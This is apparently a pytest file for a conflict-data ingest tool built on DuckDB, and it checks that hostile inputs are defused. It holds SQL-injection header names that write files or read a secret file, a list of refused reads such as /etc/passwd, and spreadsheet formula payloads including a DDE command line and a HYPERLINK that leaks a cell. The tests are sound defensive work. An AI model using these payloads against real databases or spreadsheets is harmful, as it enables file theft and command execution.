"""Hostile files and hostile cells: a header is a name, never SQL; DuckDB reads only what it is given
while it ingests; one column given twice is refused; a CSV export cannot run as spreadsheet formulas."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import duckdb
import pytest

from acled_files import HEADER, event, stored, write_acled, write_acled_xlsx
from sahelsim.errors import UserError
from sahelsim.evidence import ingest as ingest_module
from sahelsim.evidence.ingest import ingest
from sahelsim.evidence.store import confine, connect

UCDP_HEADER = ["id", "year", "type_of_violence", "side_a", "side_b", "latitude", "longitude", "country",
               "date_start", "date_end", "best", "high", "low"]
UCDP_ROW = ["401234", "2024", "1", "Government of Mali", "JNIM", "19.95", "-2.83", "Mali",
            "2024-07-27", "2024-07-27", "12", "20", "9"]


def copy_payload(target: Path) -> str:
    """A header name that, pasted into SQL, ends the query and writes `target`."""
    return f"x\" AS a FROM (SELECT 1); COPY (SELECT 1) TO '{target}'; --"


def hostile_names(tmp_path: Path) -> list[str]:
    return [copy_payload(tmp_path / "pwned.csv"), "conflict name", "dyad-name", 'say "hi"', "a;b",
            "it's", "région", "r", "p", "_check", "_reason"]


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    return path


def write_ucdp_xlsx(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    from openpyxl import Workbook

    workbook = Workbook()
    for row in [header, *rows]:
        workbook.active.append(row)
    workbook.save(path)
    return path


def store_with_one_event(tmp_path: Path, db: Path) -> list[dict]:
    ingest([write_acled(tmp_path / "first.csv", [event(event_id_cnty="MLI0")])], db)
    return stored(db)


# --- 1. a header is a name, never SQL -------------------------------------------------------

@pytest.mark.parametrize("writer", [write_csv, write_ucdp_xlsx], ids=["csv", "xlsx"])
def test_ucdp_columns_with_any_names_are_ignored(tmp_path, db, writer):
    names = hostile_names(tmp_path)
    missing_id = ["", *UCDP_ROW[1:]]
    path = writer(tmp_path / f"ged.{'csv' if writer is write_csv else 'xlsx'}", [*names, *UCDP_HEADER],
                  [[*names, *UCDP_ROW], [*names, *missing_id]])
    summary = ingest([path], db)
    assert (summary.read, summary.inserted, summary.rejected) == (2, 1, 1)
    (row,) = stored(db)
    assert (row["event_id_cnty"], row["actor1"], row["longitude"]) == ("UCDP-401234",
                                                                       "Government of Mali", -2.83)
    (bad,) = stored(db, "SELECT * FROM quarantine")
    # the raw record: the columns read, the unknown one not among them
    assert json.loads(bad["raw"]) == {column: value for column, value in zip(UCDP_HEADER, missing_id)
                                      if column != "date_end"}
    assert not (tmp_path / "pwned.csv").exists()


def test_ucdp_header_cannot_read_another_file_into_the_store(tmp_path, db):
    secret = tmp_path / "secret.txt"
    secret.write_text("top-secret-content", encoding="utf-8")
    leak = f"x, (SELECT content FROM read_text('{secret}')) AS leaked"
    path = write_csv(tmp_path / "ged.csv", [*UCDP_HEADER, leak], [["", *UCDP_ROW[1:], "cell"]])
    ingest([path], db)
    (bad,) = stored(db, "SELECT * FROM quarantine")
    assert "top-secret-content" not in bad["raw"] and json.loads(bad["raw"])["side_a"] == "Government of Mali"


def test_acled_columns_with_any_names_are_ignored(tmp_path, db):
    names = hostile_names(tmp_path)
    csv_file = write_acled(tmp_path / "acled.csv", [event(event_id_cnty="MLI1")], header=[*HEADER, *names])
    xlsx = write_acled_xlsx(tmp_path / "acled.xlsx", [event(event_id_cnty="MLI2")],
                            header=[*names, *HEADER])
    page = tmp_path / "page.json"
    page.write_text(json.dumps({"data": [{**{name: "x" for name in names}, **event(event_id_cnty="MLI3")}]}),
                    encoding="utf-8")
    summary = ingest([csv_file, xlsx, page], db)
    assert (summary.read, summary.inserted, summary.rejected) == (3, 3, 0)
    assert [row["event_id_cnty"] for row in stored(db)] == ["MLI1", "MLI2", "MLI3"]
    assert not (tmp_path / "pwned.csv").exists()


def test_hostile_header_from_the_command_line(sahelsim, tmp_path, db):
    payload = copy_payload(tmp_path / "pwned.csv")
    path = write_csv(tmp_path / "ged.csv", [*UCDP_HEADER, payload], [[*UCDP_ROW, "a"]])
    assert sahelsim("ingest", path, "--db", db).code == 0
    before = stored(db)
    assert [row["event_id_cnty"] for row in before] == ["UCDP-401234"]
    twice = write_csv(tmp_path / "twice.csv", [*UCDP_HEADER, payload, " BEST"],
                      [[*UCDP_ROW[:-3], "13", *UCDP_ROW[-2:], "a", "13"]])
    result = sahelsim("ingest", twice, "--db", db)
    assert result.code == 2, result.stderr
    (line,) = result.stderr.strip().splitlines()
    assert line == (f"error: {twice}, header, field 'best': 'best' appears twice (fields 11 and 15): "
                    "keep one")
    assert stored(db) == before
    assert not (tmp_path / "pwned.csv").exists()


# --- 2. DuckDB reads only the files given while it ingests ----------------------------------

def test_confined_connection_reads_only_the_files_given(tmp_path, db):
    given = write_acled(tmp_path / "given.csv", [event()])
    other = write_acled(tmp_path / "other.csv", [event()])
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    con = connect(db)
    confine(con, [given], scratch)
    assert con.execute(f"SELECT count(*) FROM read_csv('{given}')").fetchone() == (1,)
    con.execute(f"COPY (SELECT 1 AS a) TO '{scratch / 'work.csv'}'")
    refused = [f"SELECT * FROM read_csv('{other}')",
               "SELECT * FROM read_csv('/etc/passwd', sep = ':')",
               f"SELECT * FROM read_text('{tmp_path}/*')",
               f"COPY (SELECT 1 AS a) TO '{tmp_path / 'written.csv'}'",
               f"ATTACH '{tmp_path / 'other.duckdb'}'",
               "SET enable_external_access = true",
               "SET allowed_directories = ['/']",
               "RESET lock_configuration",
               "INSTALL httpfs", "LOAD httpfs"]
    for statement in refused:
        with pytest.raises(duckdb.Error):
            con.execute(statement)
    assert not (tmp_path / "written.csv").exists()
    con.execute("INSERT INTO quarantine (reason) VALUES ('the store itself is written')")
    con.close()
    assert stored(db, "SELECT reason FROM quarantine") == [{"reason": "the store itself is written"}]


def test_ingest_reads_its_files_through_a_confined_connection(tmp_path, db, monkeypatch):
    """Whatever a file's content could make DuckDB do while it is read, the connection is confined
    (as the test above shows a confined connection behaves) before the first file is staged."""
    settings: list[tuple] = []
    real_staging = ingest_module.staging

    def staging_and_looking(con, path, table, scratch):
        external, locked, autoload, allowed = con.execute(
            "SELECT current_setting('enable_external_access'), current_setting('lock_configuration'), "
            "current_setting('autoload_known_extensions'), current_setting('allowed_paths')").fetchall()[0]
        # DuckDB adds the store's own files (record.duckdb, .wal, …) to the paths it may open
        settings.append((external, locked, autoload, {p for p in allowed if not p.startswith(str(db))}))
        return real_staging(con, path, table, scratch)

    monkeypatch.setattr(ingest_module, "staging", staging_and_looking)
    latin = write_acled(tmp_path / "latin.csv", [event(event_id_cnty="MLI2", location="Ségou")])
    latin.write_bytes(latin.read_text("utf-8").encode("cp1252"))  # read from a scratch copy
    files = [write_acled(tmp_path / "a.csv", [event(event_id_cnty="MLI1")]), latin,
             write_acled_xlsx(tmp_path / "b.xlsx", [event(event_id_cnty="MLI3")])]
    assert ingest(files, db).inserted == 3
    assert settings == [(False, True, False, {str(file) for file in files})] * 3


# --- 3. one column given twice --------------------------------------------------------------

def acled_header_twice(name: str, again: str) -> list[str]:
    return [*HEADER, again] if name == again.strip().lower() else \
        [again if column == name else column for column in HEADER] + [name]


@pytest.mark.parametrize("header, message", [
    ([*HEADER, "notes"], "'notes' appears twice (fields 28 and 32)"),
    ([*HEADER, " NOTES "], "'notes' appears twice (fields 28 and 32)"),
    ([*HEADER[:8], "ally_actor_1", *HEADER[8:]], "'ally_actor_1' and 'assoc_actor_1' are both "
                                                 "assoc_actor_1 (fields 9 and 10)"),
])
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_acled_header_giving_a_column_twice_is_refused(tmp_path, db, header, message, suffix):
    before = store_with_one_event(tmp_path, db)
    path = tmp_path / f"twice.{suffix}"
    (write_acled if suffix == "csv" else write_acled_xlsx)(path, [event()], header=header)
    with pytest.raises(UserError) as error:
        ingest([path], db)
    field = "assoc_actor_1" if "ally" in message else "notes"
    assert str(error.value) == f"{path}, header, field '{field}': {message}: keep one"
    assert stored(db) == before


def test_ucdp_header_giving_a_column_twice_is_refused(tmp_path, db):
    path = write_csv(tmp_path / "ged.csv", [*UCDP_HEADER, "Best"], [[*UCDP_ROW, "99"]])
    with pytest.raises(UserError, match="^" + f"{path}, header, field 'best': 'best' appears twice "
                                              r"\(fields 11 and 14\): keep one$"):
        ingest([path], db)


def test_a_column_no_one_reads_may_be_given_twice(tmp_path, db):
    path = write_acled(tmp_path / "extra.csv", [event()], header=[*HEADER, "comment", "comment", "", ""])
    assert ingest([path], db).inserted == 1


@pytest.mark.parametrize("text, message", [
    ('[{"event_id_cnty": "MLI1", "notes": "a", "notes": "b"}]',
     "field 'notes': an object gives the key 'notes' twice: keep one"),
    ('[{"event_id_cnty": "MLI1"}, {"event_id_cnty": "MLI2", "Notes": "a", "notes": "b"}]',
     "row 2, field 'notes': 'notes' appears twice (fields 2 and 3): keep one"),
    ('[{"event_id_cnty": "MLI1", "ally_actor_1": "a", "assoc_actor_1": "b"}]',
     "row 1, field 'assoc_actor_1': 'ally_actor_1' and 'assoc_actor_1' are both assoc_actor_1 "
     "(fields 2 and 3): keep one"),
])
def test_json_record_giving_a_field_twice_is_refused(tmp_path, db, text, message):
    before = store_with_one_event(tmp_path, db)
    path = tmp_path / "page.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(UserError) as error:
        ingest([path], db)
    assert str(error.value) == f"{path}, {message}"
    assert stored(db) == before


def test_deletion_list_giving_the_id_twice_is_refused(sahelsim, tmp_path, db):
    before = store_with_one_event(tmp_path, db)
    deletions = tmp_path / "deleted.csv"
    deletions.write_text("event_id_cnty,Event_ID_Cnty\nMLI0,MLI9\n", encoding="utf-8")
    result = sahelsim("ingest", "--deletions", deletions, "--db", db)
    assert result.code == 2, result.stderr
    (line,) = result.stderr.strip().splitlines()
    assert line == (f"error: {deletions}, header, field 'event_id_cnty': 'event_id_cnty' appears "
                    "twice (fields 1 and 2): keep one")
    assert stored(db) == before


# --- 4. CSV exports cannot run as spreadsheet formulas --------------------------------------

FORMULAS = {"notes": '=HYPERLINK("http://example.org/?x="&A1,"click")', "actor1": "+cmd|' /C calc'!A0",
            "actor2": "-2+3", "admin1": "@SUM(A1:A9)", "admin2": "\tTab", "admin3": "\rReturn",
            "country": "Mali", "location": "Ségou = centre", "source": "'quoted already"}


def store_with_formulas(db: Path) -> None:
    con = connect(db)
    columns = ["event_id_cnty", "event_date", "longitude", "latitude", "fatalities", "iso", *FORMULAS]
    values = ["MLI1", "2025-06-01", -3.5, -0.25, 0, -1, *FORMULAS.values()]
    con.execute(f"INSERT INTO events ({', '.join(columns)}) VALUES ({', '.join('?' * len(values))})",
                values)
    con.close()


def exported_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_puts_a_quote_before_formulas_in_text_only(sahelsim, tmp_path, db):
    store_with_formulas(db)
    out = tmp_path / "events.csv"
    assert sahelsim("events", "--db", db, "--out", out).code == 0
    (row,) = exported_rows(out)
    assert {name: row[name] for name in FORMULAS} == {
        "notes": "'" + FORMULAS["notes"], "actor1": "'" + FORMULAS["actor1"], "actor2": "'-2+3",
        "admin1": "'@SUM(A1:A9)", "admin2": "'\tTab", "admin3": "'\rReturn", "country": "Mali",
        "location": "Ségou = centre", "source": "'quoted already"}
    assert (row["longitude"], row["latitude"], row["fatalities"], row["iso"]) == ("-3.5", "-0.25",
                                                                                  "0", "-1")
    assert (row["event_id_cnty"], row["event_date"]) == ("MLI1", "2025-06-01")
    (on_stdout,) = csv.DictReader(sahelsim("events", "--db", db).stdout.splitlines(keepends=True))
    assert (on_stdout["notes"], on_stdout["actor2"], on_stdout["longitude"]) == (
        row["notes"], "'-2+3", "-3.5")


def test_raw_csv_export_and_other_formats_keep_text_as_stored(sahelsim, tmp_path, db):
    store_with_formulas(db)
    out, as_json = tmp_path / "events.csv", tmp_path / "events.json"
    assert sahelsim("events", "--db", db, "--out", out, "--raw").code == 0
    assert sahelsim("events", "--db", db, "--out", as_json, "--format", "json").code == 0
    (row,) = exported_rows(out)
    (record,) = json.loads(as_json.read_text(encoding="utf-8"))
    assert {name: row[name] for name in FORMULAS} == FORMULAS == {name: record[name] for name in FORMULAS}
    assert row["longitude"] == "-3.5"
